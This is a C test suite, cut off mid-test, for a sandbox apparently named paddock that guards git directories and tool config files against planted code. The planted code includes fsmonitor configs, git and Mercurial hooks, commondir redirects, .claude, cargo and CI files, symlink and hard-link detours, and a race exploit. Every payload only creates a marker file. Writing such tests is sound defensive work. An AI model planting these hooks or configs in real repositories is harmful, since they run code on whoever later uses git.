/* Integration: protected paths against code planted for the host's tools
 * (docs/security.md, "Protected paths"). Each attack is checked the way a
 * victim meets it: after the run the host user runs the real tool (git
 * status, git commit, hg status) and the test checks that the marker command
 * the workload planted did not run. Each has a weakened twin (--weaken
 * no-protect) that shows the same attack lands without the protection, so
 * a test that cannot see the effect fails. */
#include "harness.h"

#include <poll.h>
#include <sys/syscall.h>

TestSuite(protect, .init = h_init, .fini = h_fini, .timeout = 120);

struct fx {
	struct h_world w;
	char *home; /* HOME of the host user's tools: empty, no global config */
	char *mark; /* the planted command creates this */
};

static struct fx fx_new(void)
{
	struct fx f;

	f.w = h_world();
	f.home = h_mkdir(f.w.base, "home", 0755);
	f.mark = h_join(f.w.base, "MARK");
	return f;
}

/* A shell script as the host user in dir (its own HOME, git identity in the
 * environment); asserts it succeeded and returns its stdout. */
static const char *host(const struct fx *f, const char *dir, const char *script)
{
	struct h_proc p;

	H_CMD(&p, dir, "/bin/sh", "-c",
	      h_fmt("export HOME='%s' GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=t "
		    "GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t "
		    "MARK='%s'; set -e; %s",
		    f->home, f->mark, script));
	cr_assert_eq(p.status, 0, "host script failed: %s\n" H_FMT, script, H_ARGS(&p));
	return p.out_text;
}

/* The same, for the victim's command: its status does not matter (a broken
 * repository is a failure of its own, checked where it matters). */
static void victim(const struct fx *f, const char *dir, const char *cmd)
{
	struct h_proc p;

	H_CMD(&p, dir, "/bin/sh", "-c",
	      h_fmt("export HOME='%s' GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=t "
		    "GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t; %s",
		    f->home, cmd));
}

#define REPO_INIT                                                                        \
	"git init -q -b main && git config user.name t && git config user.email t@t && " \
	"echo a > a && git add a && git commit -qm init"

/* The planted config: its fsmonitor is run by git status (git-config(1)). */
static const char *evil_config(const struct fx *f)
{
	return h_fmt("printf '[core]\\n\\tfsmonitor = touch %s\\n'", f->mark);
}

/* The workload's script in cwd, protected or not; the run itself must work. */
static struct h_proc attack(const struct fx *f, const char *cwd, const char *script, bool weak)
{
	struct h_proc p;

	/* The attack's own failure is the point; the run itself must work. */
	script = h_fmt("%s; echo attack=$?", script);
	if (weak)
		H_PADDOCK(&p, cwd, "run", "--weaken", "no-protect", "--record", f->w.record, "--",
			  "sh", "-c", script);
	else
		H_PADDOCK(&p, cwd, "run", "--record", f->w.record, "--", "sh", "-c", script);
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	return p;
}

static void expect_mark(const struct fx *f, bool weak, const struct h_proc *p)
{
	if (weak)
		cr_assert(h_exists(f->mark),
			  "weakened twin: the planted command did not run, the test cannot see "
			  "the effect\n" H_FMT,
			  H_ARGS(p));
	else
		cr_assert(!h_exists(f->mark), "the planted command ran on the host\n" H_FMT,
			  H_ARGS(p));
}

/* ------------------------------------------------------------- git dirs */

/* .git/commondir: git reads config and hooks from where it points. */
static void commondir_redirect(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	p = attack(&f, f.w.ws,
		   h_fmt("cp -r .git evil && %s >> evil/config && echo ../evil > .git/commondir; "
			 "echo cd=$?",
			 evil_config(&f)),
		   weak);
	victim(&f, f.w.ws, "git status");
	expect_mark(&f, weak, &p);
	if (!weak) {
		cr_assert(!h_exists(h_join(f.w.ws, ".git/commondir")), H_SHOW(&p));
		cr_assert(h_contains(p.out_text, "cd=2\n") || h_contains(p.out_text, "cd=1\n"),
			  H_SHOW(&p));
	} else {
		/* The check after the run sees it even so. */
		cr_assert(h_contains(p.err_text, "tampering: "), H_SHOW(&p));
		cr_assert(h_contains(h_json(f.w.record, "d['tampering']"), "commondir"),
			  H_SHOW(&p));
	}
}

Test(protect, git_commondir_redirect)
{
	commondir_redirect(false);
}

Test(protect, git_commondir_redirect_weakened_twin)
{
	commondir_redirect(true);
}

/* config.worktree, read when extensions.worktreeConfig is on. */
static void config_worktree(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT " && git config extensions.worktreeConfig true");
	p = attack(&f, f.w.ws, h_fmt("%s > .git/config.worktree", evil_config(&f)), weak);
	victim(&f, f.w.ws, "git status");
	expect_mark(&f, weak, &p);
	if (!weak)
		cr_assert(!h_exists(h_join(f.w.ws, ".git/config.worktree")), H_SHOW(&p));
}

Test(protect, git_config_worktree)
{
	config_worktree(false);
}

Test(protect, git_config_worktree_weakened_twin)
{
	config_worktree(true);
}

/* ---------------------------------------- protect_git "allowlist" */

/* The workload's script under protect_git "allowlist" (or, weak, the same
 * policy with --weaken no-protect). */
static struct h_proc attack_allow(const struct fx *f, const char *script, bool weak)
{
	char *policy = h_allowlist_policy(f->w.base);
	struct h_proc p;

	script = h_fmt("%s; echo attack=$?", script);
	if (weak)
		H_PADDOCK(&p, f->w.ws, "run", "--policy", policy, "--weaken", "no-protect",
			  "--record", f->w.record, "--", "sh", "-c", script);
	else
		H_PADDOCK(&p, f->w.ws, "run", "--policy", policy, "--record", f->w.record, "--",
			  "sh", "-c", script);
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	return p;
}

/* The names and bytes of the git directory's read-only part, as the host
 * user sees them (objects, refs and logs are git's data). */
#define GITDIR_STATE                                                                        \
	"find .git -path .git/objects -prune -o -path .git/refs -prune -o -path .git/logs " \
	"-prune -o -print | sort; find .git -path .git/objects -prune -o -type f -print | " \
	"sort | xargs md5sum"

/* One bypass of the allowlist: refused before the effect (the host's git
 * directory unchanged, names and bytes; the line names path; the victim's
 * git command runs no marker), or, weak, the effect shown. */
static void allow_refuses(struct fx f, const char *setup, const char *script, const char *path,
			  const char *victim_cmd, bool weak)
{
	const char *before;
	struct h_proc p;

	host(&f, f.w.ws, h_fmt(REPO_INIT "%s%s", setup[0] ? " && " : "", setup));
	before = host(&f, f.w.ws, GITDIR_STATE);
	p = attack_allow(&f, script, weak);
	if (weak) {
		cr_assert(h_exists(h_join(f.w.ws, path)),
			  "weakened twin: %s was not made, the test cannot see the effect\n" H_FMT,
			  path, H_ARGS(&p));
		cr_assert_str_neq(host(&f, f.w.ws, GITDIR_STATE), before, H_SHOW(&p));
	} else {
		cr_assert(!h_exists(h_join(f.w.ws, path)), H_SHOW(&p));
		cr_assert_str_eq(host(&f, f.w.ws, GITDIR_STATE), before, H_SHOW(&p));
		cr_assert(h_contains(p.err_text, h_fmt("paddock: %s/.git/", f.w.ws)) &&
			      h_contains(p.err_text, "is protected by paddock (policy protect_git "
						     "\"allowlist\""),
			  H_SHOW(&p));
		cr_assert_str_eq(h_json(f.w.record, "d['protect_notice']['git_allowlist_refused'] "
						    ">= 1"),
				 "true", H_SHOW(&p));
	}
	if (victim_cmd) {
		victim(&f, f.w.ws, victim_cmd);
		expect_mark(&f, weak, &p);
	}
}

static void allow_commondir(bool weak)
{
	struct fx f = fx_new();

	allow_refuses(f, "",
		      h_fmt("cp -r .git evil && %s >> evil/config && echo ../evil > .git/commondir",
			    evil_config(&f)),
		      ".git/commondir", "git status", weak);
}

Test(protect, allowlist_commondir_redirect)
{
	allow_commondir(false);
}

Test(protect, allowlist_commondir_redirect_weakened_twin)
{
	allow_commondir(true);
}

static void allow_config_worktree(bool weak)
{
	struct fx f = fx_new();

	allow_refuses(f, "git config extensions.worktreeConfig true",
		      h_fmt("%s > .git/config.worktree", evil_config(&f)), ".git/config.worktree",
		      "git status", weak);
}

Test(protect, allowlist_config_worktree)
{
	allow_config_worktree(false);
}

Test(protect, allowlist_config_worktree_weakened_twin)
{
	allow_config_worktree(true);
}

/* A name git does not make: no git reads .git/config.d today, which is the
 * point of an allowlist (a future one might). */
static void allow_new_name(bool weak)
{
	struct fx f = fx_new();

	allow_refuses(f, "", h_fmt("mkdir .git/config.d && %s > .git/config.d/x", evil_config(&f)),
		      ".git/config.d", NULL, weak);
}

Test(protect, allowlist_new_name)
{
	allow_new_name(false);
}

Test(protect, allowlist_new_name_weakened_twin)
{
	allow_new_name(true);
}

/* A hook: git commit on the host runs it. */
static void allow_hook(bool weak)
{
	struct fx f = fx_new();

	allow_refuses(f, "",
		      h_fmt("printf '#!/bin/sh\\ntouch %s\\n' > .git/hooks/pre-commit && "
			    "chmod +x .git/hooks/pre-commit",
			    f.mark),
		      ".git/hooks/pre-commit", "git commit -q --allow-empty -m victim", weak);
}

Test(protect, allowlist_hook)
{
	allow_hook(false);
}

Test(protect, allowlist_hook_weakened_twin)
{
	allow_hook(true);
}

/* The ways around a name check: a symlink to the git directory, "..", a
 * hard link in, a rename in from outside, O_TMPFILE, a directory made by
 * another name then renamed: each fails (the kernel's read-only mount, or
 * the supervisor's refusal) and the host's git directory is unchanged. The
 * twin shows each would land. */
static void allow_detours(bool weak)
{
	struct fx f = fx_new();
	const char *before;
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	before = host(&f, f.w.ws, GITDIR_STATE);
	p = attack_allow(
	    &f,
	    "ln -s .git g; echo x > g/hooks/via-symlink; echo s=$?; "
	    "mkdir d; echo x > d/../.git/hooks/via-dotdot; echo d=$?; "
	    "echo x > hl; ln hl .git/hooks/via-link; echo l=$?; "
	    "echo x > mv; mv mv .git/hooks/via-rename; echo r=$?; "
	    "python3 -c 'import os; os.open(\".git/hooks\", os.O_TMPFILE | "
	    "os.O_WRONLY, 0o600)' 2>/dev/null; echo t=$?; "
	    "mkdir .git/rebase-merge && echo x > .git/rebase-merge/f && "
	    "mv .git/rebase-merge .git/hooks/via-dir; echo m=$?; rm -rf .git/rebase-merge",
	    weak);
	if (weak) {
		cr_assert_str_neq(host(&f, f.w.ws, GITDIR_STATE), before, H_SHOW(&p));
		cr_assert(h_exists(h_join(f.w.ws, ".git/hooks/via-symlink")), H_SHOW(&p));
		cr_assert(h_exists(h_join(f.w.ws, ".git/hooks/via-link")), H_SHOW(&p));
		return;
	}
	for (const char *c = "sdlrtm"; *c; c++)
		cr_assert(!h_contains(p.out_text, h_fmt("%c=0\n", *c)), "%c\n" H_FMT, *c,
			  H_ARGS(&p));
	cr_assert_str_eq(host(&f, f.w.ws, GITDIR_STATE), before, H_SHOW(&p));
}

Test(protect, allowlist_detours)
{
	allow_detours(false);
}

Test(protect, allowlist_detours_weakened_twin)
{
	allow_detours(true);
}

/* The race "continue" is warned of (seccomp_unotify(2)): one thread flips
 * the path in its memory between a workspace file and .git/hooks/x while
 * another creates it, 2 s long. Whatever the supervisor read, a call it lets
 * continue meets the read-only mount: no hook is made. The twin shows the
 * race lands without the protection. */
static void allow_race(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	p = attack_allow(&f,
			 "python3 -c '\n"
			 "import ctypes, os, threading, time\n"
			 "libc = ctypes.CDLL(None, use_errno=True)\n"
			 "a = b\"a-plain-file\".ljust(32, b\"\\0\")\n"
			 "b = b\".git/hooks/x\".ljust(32, b\"\\0\")\n"
			 "buf = ctypes.create_string_buffer(a, 32)\n"
			 "stop = []\n"
			 "def flip():\n"
			 "    while not stop:\n"
			 "        ctypes.memmove(buf, b, 32); ctypes.memmove(buf, a, 32)\n"
			 "t = threading.Thread(target=flip); t.start()\n"
			 "end = time.time() + 2\n"
			 "while time.time() < end:\n"
			 "    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY, 0o644)\n"
			 "    if fd >= 0: os.close(fd)\n"
			 "stop.append(1); t.join()\n"
			 "' 2>/dev/null",
			 weak);
	if (weak)
		cr_assert(h_exists(h_join(f.w.ws, ".git/hooks/x")),
			  "weakened twin: the race did not land, the test cannot see it\n" H_FMT,
			  H_ARGS(&p));
	else
		cr_assert(!h_exists(h_join(f.w.ws, ".git/hooks/x")), H_SHOW(&p));
	cr_assert(h_exists(h_join(f.w.ws, "a-plain-file")), H_SHOW(&p));
}

Test(protect, allowlist_race_of_the_path_after_the_look)
{
	allow_race(false);
}

Test(protect, allowlist_race_of_the_path_after_the_look_weakened_twin)
{
	allow_race(true);
}

/* A path the policy protects on its own inside a git directory (a name
 * git writes, .git/description) stays read-only under the allowlist: the
 * supervisor never opens a mount point's host file. Twin: without the
 * entry, the allowlist lets git's name be written. */
static void allow_keeps_protect(bool twin)
{
	struct fx f = fx_new();
	char *policy = h_allowlist_policy(f.w.base), *desc = h_join(f.w.ws, ".git/description");
	const char *before;
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	before = h_read_file(desc, NULL);
	if (twin)
		H_PADDOCK(&p, f.w.ws, "run", "--policy", policy, "--", "sh", "-c",
			  "echo planted > .git/description; echo w=$?");
	else
		H_PADDOCK(&p, f.w.ws, "run", "--policy", policy, "--protect", desc, "--", "sh",
			  "-c", "echo planted > .git/description; echo w=$?");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	if (twin) {
		cr_assert_str_eq(h_read_file(desc, NULL), "planted\n", H_SHOW(&p));
		return;
	}
	cr_assert(!h_contains(p.out_text, "w=0\n"), H_SHOW(&p));
	cr_assert_str_eq(h_read_file(desc, NULL), before, H_SHOW(&p));
}

Test(protect, allowlist_keeps_a_protected_path_in_the_git_directory)
{
	allow_keeps_protect(false);
}

Test(protect, allowlist_keeps_a_protected_path_in_the_git_directory_weakened_twin)
{
	allow_keeps_protect(true);
}

/* Regression: a .git/commondir that names the git directory itself (".",
 * what paddock's placeholder for commondir holds) made the start take .git
 * for a linked worktree's directory, with only config.worktree and
 * commondir protected: a second sandbox started while the first one's
 * placeholder was there could plant a hook or a config (the race seen as
 * PROTECTION-LOST in fs::two_sandboxes_same_workspace_keep_git_protected
 * under load). A "." commondir redirects nothing: everything is protected. */
static void self_commondir(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT " && echo . > .git/commondir && git status --porcelain");
	p = attack(&f, f.w.ws,
		   h_fmt("printf '#!/bin/sh\ntouch %s\n' > .git/hooks/pre-commit && "
			 "chmod +x .git/hooks/pre-commit; echo hook=$?; %s >> .git/config; "
			 "echo config=$?",
			 f.mark, evil_config(&f)),
		   weak);
	victim(&f, f.w.ws, "git commit -q --allow-empty -m v");
	expect_mark(&f, weak, &p);
	if (!weak)
		cr_assert(!h_contains(p.err_text, "tampering"),
			  "a \".\" commondir taken for tampering\n" H_FMT, H_ARGS(&p));
}

Test(protect, git_self_commondir)
{
	self_commondir(false);
}

Test(protect, git_self_commondir_weakened_twin)
{
	self_commondir(true);
}

/* A commondir naming a directory that does not exist yet: the workload
 * must not be able to create it, with a config git would then read. */
static void missing_commondir(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT " && cp -r .git spare && echo ../shadow > .git/commondir");
	p = attack(&f, f.w.ws,
		   h_fmt("cp -r spare shadow; echo mk=$?; %s >> shadow/config; echo config=$?",
			 evil_config(&f)),
		   weak);
	victim(&f, f.w.ws, "git status");
	expect_mark(&f, weak, &p);
	if (!weak)
		cr_assert(!h_exists(h_join(f.w.ws, "shadow")), H_SHOW(&p));
}

Test(protect, git_missing_commondir)
{
	missing_commondir(false);
}

Test(protect, git_missing_commondir_weakened_twin)
{
	missing_commondir(true);
}

/* The workspace is a linked worktree: its git directory and the common
 * one lie outside the workspace, and are bound in (git works inside) with
 * the worktree's commondir protected. */
static void linked_worktree(bool weak)
{
	struct fx f = fx_new();
	char *main_repo = h_mkdir(f.w.base, "main", 0755);
	char *wt = h_join(f.w.base, "wt");
	struct h_proc p;

	host(&f, main_repo, REPO_INIT " && git worktree add -q ../wt");
	p = attack(
	    &f, wt,
	    h_fmt("git status --porcelain; echo status=$?; "
		  "d=$(sed 's/^gitdir: //' .git); cp -r ../main/.git evil && %s >> evil/config "
		  "&& echo \"$PWD/evil\" > $d/commondir; echo cd=$?",
		  evil_config(&f)),
	    weak);
	cr_assert(h_contains(p.out_text, "status=0\n"), "git fails inside a worktree\n" H_FMT,
		  H_ARGS(&p));
	victim(&f, wt, "git status");
	expect_mark(&f, weak, &p);
}

Test(protect, git_linked_worktree_commondir)
{
	linked_worktree(false);
}

Test(protect, git_linked_worktree_commondir_weakened_twin)
{
	linked_worktree(true);
}

/* A submodule's own git directory (.git/modules/sub) and its hooks. */
static void submodule_hook(bool weak)
{
	struct fx f = fx_new();
	char *src = h_mkdir(f.w.base, "subsrc", 0755);
	struct h_proc p;

	host(&f, src, REPO_INIT);
	host(&f, f.w.ws,
	     h_fmt(REPO_INIT " && git -c protocol.file.allow=always submodule add -q %s sub && "
			     "git commit -qm sub",
		   src));
	p = attack(&f, f.w.ws,
		   h_fmt("printf '#!/bin/sh\\ntouch %s\\n' > .git/modules/sub/hooks/pre-commit && "
			 "chmod +x .git/modules/sub/hooks/pre-commit",
			 f.mark),
		   weak);
	(void)p;
	victim(&f, h_join(f.w.ws, "sub"), "git commit -q --allow-empty -m v");
	if (weak) {
		cr_assert(h_exists(f.mark), "weakened twin: the hook did not run");
		return;
	}
	cr_assert(!h_exists(f.mark), "the planted hook ran on the host");
}

Test(protect, git_submodule_hook)
{
	submodule_hook(false);
}

Test(protect, git_submodule_hook_weakened_twin)
{
	submodule_hook(true);
}

/* A repository nested in the workspace, found by the walk at start. */
static void nested_repo(bool weak)
{
	struct fx f = fx_new();
	char *nested = h_mkdir(f.w.ws, "vendor", 0755);
	struct h_proc p;

	nested = h_mkdir(nested, "lib", 0755);
	host(&f, nested, REPO_INIT);
	p = attack(&f, f.w.ws, h_fmt("%s >> vendor/lib/.git/config", evil_config(&f)), weak);
	victim(&f, nested, "git status");
	expect_mark(&f, weak, &p);
}

Test(protect, git_nested_repo_config)
{
	nested_repo(false);
}

Test(protect, git_nested_repo_config_weakened_twin)
{
	nested_repo(true);
}

/* ------------------------------------------------- agents, VCSs, tools */

/* Files a tool would read later; no real tool here: the file itself must
 * not appear (and does, weakened). */
static void planted_file(bool weak, const char *pre, const char *file)
{
	struct fx f = fx_new();
	struct h_proc p;

	if (pre)
		host(&f, f.w.ws, pre);
	p = attack(
	    &f, f.w.ws,
	    h_fmt("mkdir -p $(dirname %s); echo '{\"hooks\":1}' > %s; echo w=$?", file, file),
	    weak);
	if (weak)
		cr_assert(h_exists(h_join(f.w.ws, file)), "weakened twin: %s not written\n" H_FMT,
			  file, H_ARGS(&p));
	else
		cr_assert(!h_exists(h_join(f.w.ws, file)), "%s was written\n" H_FMT, file,
			  H_ARGS(&p));
}

Test(protect, claude_settings)
{
	planted_file(false, NULL, ".claude/settings.json");
	/* An existing .claude/ of the user's stays theirs, read-only. */
	planted_file(false, "mkdir .claude && echo '{}' > .claude/settings.local.json",
		     ".claude/settings.json");
}

Test(protect, claude_settings_weakened_twin)
{
	planted_file(true, NULL, ".claude/settings.json");
}

Test(protect, cargo_config)
{
	planted_file(false, NULL, ".cargo/config.toml");
	planted_file(false, "mkdir .cargo", ".cargo/config.toml");
}

Test(protect, cargo_config_weakened_twin)
{
	planted_file(true, "mkdir .cargo", ".cargo/config.toml");
}

Test(protect, github_workflows)
{
	planted_file(false, NULL, ".github/workflows/ci.yml");
	planted_file(false, "mkdir -p .github/ISSUE_TEMPLATE", ".github/workflows/ci.yml");
}

Test(protect, github_workflows_weakened_twin)
{
	planted_file(true, "mkdir -p .github/ISSUE_TEMPLATE", ".github/workflows/ci.yml");
}

/* Mercurial runs [hooks] of .hg/hgrc: pre-status runs on hg status. */
static void hg_hook(bool weak)
{
	struct fx f = fx_new();
	struct h_proc p;

	if (access("/usr/bin/hg", X_OK) != 0)
		cr_skip_test("no /usr/bin/hg (Debian package mercurial, make deps)");
	host(&f, f.w.ws, "hg init");
	p = attack(&f, f.w.ws,
		   h_fmt("printf '[hooks]\\npre-status = touch %s\\n' > .hg/hgrc", f.mark), weak);
	victim(&f, f.w.ws, "hg status");
	expect_mark(&f, weak, &p);
}

Test(protect, hg_hgrc_hook)
{
	hg_hook(false);
}

Test(protect, hg_hgrc_hook_weakened_twin)
{
	hg_hook(true);
}

/* ------------------------------------------------------- git works inside */

/* The git workflow inside equal to outside, in each layout, and git
 * config's notice: test_git_inside.c. */

/* The caller's git identity, from a ~/.gitconfig that is a symlink (as
 * dotfile managers make it), is there inside, read-only; the twin with
 * --weaken rw-binds shows the test sees a write reach the host file. */
static void home_gitconfig(bool weak)
{
	static const char conf[] = "[user]\n\tname = Host User\n\temail = host@example.org\n";
	struct fx f = fx_new();
	char *dot = h_mkdir(f.w.base, "dotfiles", 0755);
	char *real = h_join(dot, "gitconfig");
	struct h_proc p;

	h_write_file(real, conf, 0644);
	cr_assert_eq(symlink(real, h_join(f.home, ".gitconfig")), 0);
	host(&f, f.w.ws, "git init -q -b main");
	H_CMD(&p, f.w.ws, "/usr/bin/env", h_fmt("HOME=%s", f.home), h_paddock(), "run",
	      weak ? "--weaken" : "--cwd", weak ? "rw-binds" : f.w.ws, "--", "sh", "-c",
	      "unset GIT_AUTHOR_NAME GIT_AUTHOR_EMAIL GIT_COMMITTER_NAME GIT_COMMITTER_EMAIL; "
	      "echo a > a && git add a && git commit -qm one && git log -1 --format=%an/%ae; "
	      "echo '# planted' >> ~/.gitconfig; echo append=$?");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert(h_contains(p.out_text, "Host User/host@example.org\n"), H_SHOW(&p));
	if (weak) {
		cr_assert(h_contains(p.out_text, "append=0\n"), H_SHOW(&p));
		cr_assert(h_contains(h_read_file(real, NULL), "# planted"), H_SHOW(&p));
		return;
	}
	cr_assert(!h_contains(p.out_text, "append=0\n"), H_SHOW(&p));
	cr_assert_str_eq(h_read_file(real, NULL), conf);
}

Test(protect, home_gitconfig_gives_the_identity_read_only)
{
	home_gitconfig(false);
}

Test(protect, home_gitconfig_gives_the_identity_read_only_weakened_twin)
{
	home_gitconfig(true);
}

/* No ~/.gitconfig, no HOME, a HOME the caller cannot read: the run works. */
Test(protect, home_gitconfig_absent_is_skipped)
{
	struct fx f = fx_new();
	char *closed = h_mkdir(f.w.base, "closed", 0755);
	const char *homes[] = {f.home, "/nonexistent", closed};
	struct h_proc p;

	h_mkdir(closed, ".config", 0755);
	cr_assert_eq(chmod(closed, 0), 0);
	for (size_t i = 0; i < sizeof(homes) / sizeof(homes[0]); i++) {
		H_CMD(&p, f.w.ws, "/usr/bin/env", h_fmt("HOME=%s", homes[i]), h_paddock(), "run",
		      "--", "sh", "-c", "ls -A ~; echo ran");
		cr_assert_eq(p.status, 0, "HOME=%s\n" H_FMT, homes[i], H_ARGS(&p));
		cr_assert_str_eq(p.out_text, "ran\n", "HOME=%s\n" H_FMT, homes[i], H_ARGS(&p));
	}
	cr_assert_eq(chmod(closed, 0755), 0);
}

/* The workspace is a subdirectory of a repository: its git directory is
 * outside the workspace, bound in, protected. */
Test(protect, git_subdirectory_workspace)
{
	struct fx f = fx_new();
	char *sub = h_mkdir(f.w.ws, "sub", 0755);
	struct h_proc p;

	host(&f, f.w.ws, REPO_INIT);
	H_PADDOCK(&p, sub, "run", "--", "sh", "-c",
		  h_fmt("echo x > x && git add x && git commit -qm in-sub && echo commit=$?; "
			"%s >> ../.git/config; echo config=$?",
			evil_config(&f)));
	cr_assert(h_contains(p.out_text, "commit=0\n"), H_SHOW(&p));
	cr_assert(!h_contains(p.out_text, "config=0\n"), H_SHOW(&p));
	cr_assert_str_eq(host(&f, f.w.ws, "git log -1 --format=%s"), "in-sub\n");
	victim(&f, f.w.ws, "git status");
	cr_assert(!h_exists(f.mark), H_SHOW(&p));
	cr_assert_str_eq(host(&f, f.w.ws, "git status --porcelain"), "");
}

/* git init in a fresh directory works (no placeholder .git); the new
 * repository's config is the workload's, and what it plants there is
 * reported after the run. */
Test(protect, git_init_fresh_directory)
{
	struct fx f = fx_new();
	struct h_proc p;

	H_PADDOCK(&p, f.w.ws, "run", "--record", f.w.record, "--", "sh", "-c",
		  h_fmt("git init -q && git config user.name t && git config user.email t@t && "
			"echo a > a && git add a && git commit -qm first && echo ok; %s >> "
			".git/config",
			evil_config(&f)));
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert(h_contains(p.out_text, "ok\n"), H_SHOW(&p));
	cr_assert(h_contains(h_json(f.w.record, "d['tampering']"), "core.fsmonitor=touch"),
		  H_SHOW(&p));
	cr_assert(h_contains(p.err_text, "paddock: warning: tampering: "), H_SHOW(&p));
}

/* While a run goes, the placeholders are invisible to git, inside and out;
 * afterwards nothing is left. */
Test(protect, placeholders_invisible_to_git)
{
	struct fx f = fx_new();
	struct h_proc p;
	const char *before, *during;

	host(&f, f.w.ws, REPO_INIT);
	before = h_list_dir(f.w.ws);
	H_PADDOCK_START(&p, f.w.ws, "run", "--", "sh", "-c",
			"git status --porcelain --untracked-files=all; echo inside-done; "
			"touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; "
			"i=$((i+1)); done; rm -f started go");
	for (int i = 0; i < 400 && !h_exists(h_join(f.w.ws, "started")); i++)
		h_sleep_ms(20);
	during = host(&f, f.w.ws, "git status --porcelain --untracked-files=all");
	h_write_file(h_join(f.w.ws, "go"), "", 0644);
	h_wait(&p, H_TIMEOUT_MS);
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	cr_assert_str_eq(p.out_text, "inside-done\n", H_SHOW(&p));
	cr_assert_str_eq(during, "?? started\n", H_SHOW(&p));
	cr_assert_str_eq(h_list_dir(f.w.ws), before, H_SHOW(&p));
	cr_assert_str_eq(host(&f, f.w.ws, "git status --porcelain"), "");
}

/* ------------------------------------------------------------ kill test */

/* SIGKILL of the launcher at random moments of its start-up: nothing of
 * paddock's stays in the workspace or its git directory (the sweeper,
 * mounts/protect.c, removes what was made; each placeholder is announced
 * to it before it exists). The sweeper runs once the launcher and the
 * sandbox are gone, so the check waits for the workspace to settle. */
Test(protect, sigkill_during_startup_leaves_nothing, .timeout = 300)
{
	struct fx f = fx_new();
	const char *ws_list, *git_list;
	char *git = h_join(f.w.ws, ".git");
	unsigned seed = (unsigned)h_random();
	int dirty = 0;

	struct h_proc whole;
	double t0;
	int range_us, mid = 0;

	/* A private registry: a killed launcher leaves its entry (stale, or
	 * half made), which must not stay in this user's own registry after
	 * the test (the world's directory goes in h_fini). */
	cr_assert_eq(setenv("XDG_RUNTIME_DIR", h_mkdir(f.w.base, "xdg", 0700), 1), 0);
	host(&f, f.w.ws, REPO_INIT);
	ws_list = h_list_dir(f.w.ws);
	git_list = h_list_dir(git);
	/* The moments span a whole start-up as long as it takes on this
	 * machine now (a loaded one takes several times the 15 ms floor),
	 * so that kills land after the placeholders are made too. */
	t0 = h_now();
	H_PADDOCK(&whole, f.w.ws, "run", "--", "true");
	cr_assert_eq(whole.status, 0, H_SHOW(&whole));
	range_us = (int)((h_now() - t0) * 1.2e6);
	if (range_us < 15000)
		range_us = 15000;
	for (int i = 0; i < 200 && dirty < 3; i++) {
		struct h_proc p;
		int delay_us = (int)(rand_r(&seed) % (unsigned)range_us);
		bool clean = false;

		H_PADDOCK_START(&p, f.w.ws, "run", "--", "true");
		usleep((useconds_t)delay_us);
		/* Informative only: a placeholder in sight when the kill
		 * comes (the workspace root's .claude, .idea, ...). */
		mid += strcmp(h_list_dir(f.w.ws), ws_list) != 0;
		kill(p.pid, SIGKILL);
		h_wait(&p, H_TIMEOUT_MS);
		for (int t = 0; t < 250 && !clean; t++) {
			clean = strcmp(h_list_dir(f.w.ws), ws_list) == 0 &&
				strcmp(h_list_dir(git), git_list) == 0;
			if (!clean)
				h_sleep_ms(20);
		}
		if (!clean && dirty++ < 3)
			cr_log_error("kill %d after %d us left:\n%s\n.git:\n%s", i, delay_us,
				     h_list_dir(f.w.ws), h_list_dir(git));
	}
	cr_log_info("200 kills in 0..%d us; %d with a placeholder in sight just before", range_us,
		    mid);
	cr_assert_eq(dirty, 0, "kills left something (stopped after %d)", dirty);
	cr_assert_str_eq(host(&f, f.w.ws, "git status --porcelain --ignored"), "");
	/* Nor in the registry: kills at a run's end land in the removal of
	 * its entry too. */
	H_PADDOCK(&whole, f.w.ws, "ps", "--all");
	cr_assert_eq(whole.status, 0, H_SHOW(&whole));
	h_assert_registry_whole(h_fmt("%s/paddock", getenv("XDG_RUNTIME_DIR")), false);
}

/* The sweeper outlives a normal end by its last closes (the placeholders'
 * inodes are freed there, after paddock returned): it must hold none of
 * the caller's stdio, or a caller that reads paddock's output to its end
 * would wait for it all the same, and it ends by itself. */
Test(protect, sweeper_holds_no_stdio_and_ends_by_itself)
{
	struct fx f = fx_new();
	struct h_proc p;
	pid_t sw = 0;
	char path[64], link[64];
	int pfd;

	host(&f, f.w.ws, REPO_INIT);
	H_PADDOCK_START(&p, f.w.ws, "run", "--", "sleep", "2");
	for (int i = 0; i < 300 && !(sw = h_child_of(p.pid, "paddock-sweep")); i++)
		h_sleep_ms(10);
	cr_assert_gt(sw, 0, "no sweeper found");
	pfd = (int)syscall(SYS_pidfd_open, sw, 0);
	cr_assert_geq(pfd, 0, "pidfd_open %d", (int)sw);
	for (int fd = 0; fd < 3; fd++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)sw, fd);
		n = readlink(path, link, sizeof(link) - 1);
		cr_assert_gt(n, 0, "%s", path);
		link[n] = '\0';
		cr_assert_str_eq(link, "/dev/null", "the sweeper's fd %d", fd);
	}
	h_wait(&p, H_TIMEOUT_MS);
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	/* It ends by itself (its pidfd says so), and nothing is left in the
	 * workspace. */
	cr_assert_eq(poll(&(struct pollfd){.fd = pfd, .events = POLLIN}, 1, H_TIMEOUT_MS), 1,
		     "the sweeper %d did not end", (int)sw);
	close(pfd);
